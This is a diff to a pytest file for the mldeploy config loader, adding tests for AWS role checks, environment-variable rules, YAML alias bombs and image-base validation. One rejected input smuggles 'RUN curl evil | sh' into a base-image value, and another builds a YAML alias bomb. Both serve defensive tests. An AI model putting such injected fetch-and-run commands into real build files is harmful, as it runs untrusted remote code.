@@ -11,6 +11,8 @@ import pytest
 from mldeploy.config import ConfigError, json_schema, load_config
 from mldeploy.errors import UsageError
 
+ROLE = "arn:aws:iam::123456789012:role/mldeploy"
+
 
 
 @pytest.fixture(autouse=True)
@@ -202,14 +204,14 @@ def test_override_of_cloud_gets_that_clouds_default_target(tmp_path):
 @pytest.mark.parametrize("cloud, target", [
     ("aws", "sagemaker"), ("gcp", "vertex"), ("azure", "azureml"), ("local", "docker")])
 def test_default_target_per_cloud(tmp_path, cloud, target):
-    p = write(tmp_path, f"deploy:\n  cloud: {cloud}\n")
+    p = write(tmp_path, f"deploy:\n  cloud: {cloud}\n  aws: {{role: '{ROLE}'}}\n")
     assert load_config(p, environ={}).deploy.target == target
 
 
 @pytest.mark.parametrize("cloud, target", [
     ("aws", "lambda"), ("gcp", "cloudrun"), ("local", "docker")])
 def test_explicit_target_that_fits_is_kept(tmp_path, cloud, target):
-    p = write(tmp_path, f"deploy:\n  cloud: {cloud}\n  target: {target}\n")
+    p = write(tmp_path, f"deploy:\n  cloud: {cloud}\n  target: {target}\n  aws: {{role: '{ROLE}'}}\n")
     assert load_config(p, environ={}).deploy.target == target
 
 
@@ -564,6 +566,8 @@ def test_monitoring_paths_are_relative_to_the_config_file_and_uris_stay(tmp_path
     ("image", "{AIP_HTTP_PORT: '9000'}", "AIP_HTTP_PORT is set by the image or the cloud it runs on"),
     ("image", "{MLDEPLOY_API_KEYS: k0123456789abcdef}", "MLDEPLOY_API_KEYS would be readable by whoever pulls"),
     ("image", "{TZ: \"a\\nb\"}", "a value spans lines"),
+    ("image", "{OMP_WAIT_POLICY: PASSIVE}", "OMP_WAIT_POLICY is not a serving setting: the image's environment holds "
+                                            "MLDEPLOY_* settings only"),
     ("deploy.aws.lambda", "{AWS_REGION: eu-west-1}", "AWS_REGION is set by Lambda itself"),
     ("deploy.aws.lambda", "{MLDEPLOY_MAX_BATCH: '0'}", "MLDEPLOY_MAX_BATCH=0 is out of range"),
     ("deploy.gcp.cloudrun", "{MLDEPLOY_ACCESS_LOG: maybe}", "MLDEPLOY_ACCESS_LOG='maybe' must be true or false"),
@@ -584,9 +588,50 @@ def test_cloud_run_secret_names_are_checked_but_not_their_values(tmp_path):
 
 
 def test_image_environment_is_kept_and_needs_our_dockerfile(tmp_path):
-    every = {"MLDEPLOY_WORKERS": "2", "MLDEPLOY_RATE_BURST": "5", "MLDEPLOY_API_KEYS_FILE": "/run/keys",
-             "OMP_WAIT_POLICY": "PASSIVE"}  # a burst without a rate is still a known name; the keys file is not read
+    every = {"MLDEPLOY_WORKERS": "2", "MLDEPLOY_RATE_BURST": "5", "MLDEPLOY_API_KEYS_FILE": "/run/keys"}
+    # a burst without a rate is still a known name; the keys file is not read
     p = write(tmp_path, f"image:\n  environment: {json.dumps(every)}\n")
     assert load_config(p, environ={}).image.environment == every
     p = write(tmp_path, "image:\n  dockerfile: Dockerfile\n  environment: {MLDEPLOY_WORKERS: '2'}\n")
     assert "with your own dockerfile, set ENV there" in only_problem(p)[2]
+
+
+def test_a_yaml_alias_bomb_is_refused_before_it_expands(tmp_path):
+    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
+        f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n" for p, c in zip("abcdefgh", "bcdefghi"))
+    p = write(tmp_path, bomb)
+    with pytest.raises(UsageError) as e:
+        load_config(p, environ={})
+    assert "anchors and aliases are not accepted" in e.value.one_line() and e.value.line == 1
+
+
+@pytest.mark.parametrize("base", ["python:3.11-slim\nRUN curl evil | sh", "Python:3.11", "python 3.11", "a@sha256:12"])
+def test_image_base_must_be_an_image_reference(tmp_path, base):
+    p = write(tmp_path, "image:\n  base: " + json.dumps(base) + "\n")
+    assert "expected an image reference" in only_problem(p)[2]
+
+
+@pytest.mark.parametrize("base", ["python:3.11-slim", "127.0.0.1:5000/mldeploy/base:v1",
+                                  "registry.example.com/team/py@sha256:" + "a" * 64])
+def test_image_base_accepts_references(tmp_path, base):
+    assert load_config(write(tmp_path, f"image:\n  base: {base}\n"), environ={}).image.base == base
+
+
+@pytest.mark.parametrize("target", ["sagemaker", "lambda"])
+def test_an_aws_target_without_a_role_fails_when_the_config_loads(tmp_path, target):
+    p = write(tmp_path, f"deploy:\n  cloud: aws\n  target: {target}\n")
+    with pytest.raises(UsageError) as e:
+        load_config(p, environ={})
+    assert f"deploy.aws.role is not set: {target} needs" in e.value.one_line() and e.value.line == 3
+
+
+@pytest.mark.parametrize("section, text, message", [
+    ("aws", f"aws: {{role: '{ROLE}', sagemaker: {{data_capture_percent: 20}}}}",
+     "data_capture_percent is set but data_capture_s3 is not"),
+    ("gcp", "gcp: {vertex: {accelerator_count: 1}}", "accelerator_count is set but accelerator_type is not"),
+    ("gcp", "gcp: {vertex: {min_replicas: 3, max_replicas: 2}}", "max_replicas (2) is below min_replicas (3)"),
+])
+def test_settings_a_target_needs_together_fail_when_the_config_loads(tmp_path, section, text, message):
+    # checked before any cloud call, so `deploy --plan` never prints a plan that apply would refuse
+    file, line, problem = only_problem(write(tmp_path, f"deploy:\n  cloud: {section}\n  {text}\n"))
+    assert message in problem and line == 3, (line, problem)
